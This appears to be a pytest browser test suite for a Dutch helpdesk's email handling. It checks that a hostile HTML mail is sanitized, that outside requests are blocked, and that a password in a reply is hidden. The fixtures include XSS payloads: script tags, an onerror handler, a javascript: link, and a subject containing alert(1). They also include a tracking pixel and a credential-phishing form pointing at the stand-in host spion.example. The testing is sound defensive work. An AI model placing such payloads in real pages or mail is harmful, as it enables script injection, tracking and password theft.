"""A hostile mail with an attachment and a password arrives; the agent reads it safely, answers, and hears again."""

from __future__ import annotations

from collections.abc import Callable
from email.message import EmailMessage
from types import SimpleNamespace
from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import BrowserContext, Page, Request, expect

from mail.inbound.processing import process_due
from mail.inbound.receiving import receive
from mail.models import MailMessage
from mail.outbound.outbox import sweep_outbox
from mail.outbound.sending import as_email
from tests.browser.test_walk import wait_for_entry
from tickets.models import EntryKind, Ticket

pytestmark = pytest.mark.browser

HOSTILE = """<h1>Printer</h1><script>document.title = "gekaapt"</script>
<img src="https://spion.example/pixel.gif" onerror="document.title = 'gekaapt'">
<p style="position:fixed;inset:0;background:red">Alles is rood</p>
<a href="javascript:document.title='gekaapt'">Klik</a>
<form action="https://spion.example"><input name="wachtwoord"><button>Meld u aan</button></form>"""


def arrive(message: EmailMessage) -> None:
    receive(message.as_bytes(), mailbox="postvak", now=timezone.now())
    process_due(timezone.now())


def hostile_mail() -> EmailMessage:
    message = EmailMessage()
    message["From"], message["To"] = "Jan Smit <jan@smit.example>", "supportcenter@1do.example"
    message["Subject"], message["Message-ID"] = "<script>alert(1)</script> Printer", "<jan-1@smit.example>"
    message.set_content("De printer doet het niet.")
    message.add_alternative(HOSTILE, subtype="html")
    message.add_attachment(b"%PDF-1.7", maintype="application", subtype="pdf", filename="foto van de printer.pdf")
    return message


def test_a_mail_is_read_safely_answered_and_answered_again(
    cast: SimpleNamespace,
    context: BrowserContext,
    sign_in_browser: Callable[[str], Page],
    no_serious_barriers: Callable[[Page], None],
    settings: Any,
) -> None:
    settings.MAIL_REPLY_ADDRESS = "supportcenter@1do.example"
    outside: list[str] = []

    def note(request: Request) -> None:
        if "spion.example" in request.url:
            outside.append(request.url)

    context.on("request", note)
    arrive(hostile_mail())
    ticket = Ticket.objects.get()
    desk = sign_in_browser("sanne@1do.example")
    desk.goto(f"/desk/meldingen/{ticket.number}/")
    expect(desk.get_by_text("foto van de printer.pdf").first).to_be_visible()
    no_serious_barriers(desk)
    with context.expect_page() as opened:
        desk.get_by_role("link", name="Toon opgemaakt").click()
    frame = opened.value
    frame.wait_for_load_state()
    expect(frame.get_by_role("heading", name="Printer")).to_be_visible()
    assert frame.title() == "Ontvangen e-mail"
    assert frame.locator("form, input, script, [style]").count() == 0
    assert outside == [], "nothing is fetched from elsewhere"
    frame.close()

    desk.keyboard.press("r")
    desk.locator("#composer textarea").fill("Welke printer is het?")
    desk.get_by_role("button", name="Verstuur en wacht op klant").click()
    wait_for_entry(desk, ticket.number, EntryKind.WAITING)
    sweep_outbox(timezone.now())
    asked = as_email(MailMessage.objects.get(message="waiting_for_customer")).message()
    answer = EmailMessage()
    answer["From"], answer["To"], answer["Subject"] = "jan@smit.example", asked["Reply-To"], f"Re: {asked['Subject']}"
    answer["In-Reply-To"], answer["Message-ID"] = asked["Message-ID"], "<jan-2@smit.example>"
    answer.set_content(
        "De grote bij de balie.\nwachtwoord: Zomer.26!geheim\n\n"
        "Op ma 23 nov. 2026 schreef 1do <a@1do.example>:\n> Welke printer is het?"
    )
    arrive(answer)
    desk.goto(f"/desk/meldingen/{ticket.number}/")
    expect(desk.get_by_text("De grote bij de balie.").first).to_be_visible()
    expect(desk.get_by_text("[verborgen: wachtwoord]").first).to_be_visible()
    assert "Zomer.26" not in desk.content()
    no_serious_barriers(desk)
    assert Ticket.objects.get().timeline.filter(kind=EntryKind.REPLY).count() == 1


def test_a_stranger_waits_in_the_postvak(
    cast: SimpleNamespace,
    sign_in_browser: Callable[[str], Page],
    no_serious_barriers: Callable[[Page], None],
) -> None:
    message = hostile_mail()
    message.replace_header("From", "Nieuw Iemand <nieuw@smit.example>")
    arrive(message)
    desk = sign_in_browser("sanne@1do.example")
    desk.get_by_role("link", name="Postvak").click()
    expect(desk.get_by_text("Dit adres is bij geen klant bekend.")).to_be_visible()
    no_serious_barriers(desk)
    desk.get_by_role("link", name="<script>alert(1)</script> Printer").click()
    desk.get_by_label("Klant", exact=True).select_option(label="Bakkerij Smit")
    no_serious_barriers(desk)
    desk.get_by_role("button", name="Neem de mail op").click()
    expect(desk.get_by_text("Verwerkt in melding").first).to_be_visible()
    assert Ticket.objects.get().contact.name == "Nieuw Iemand"
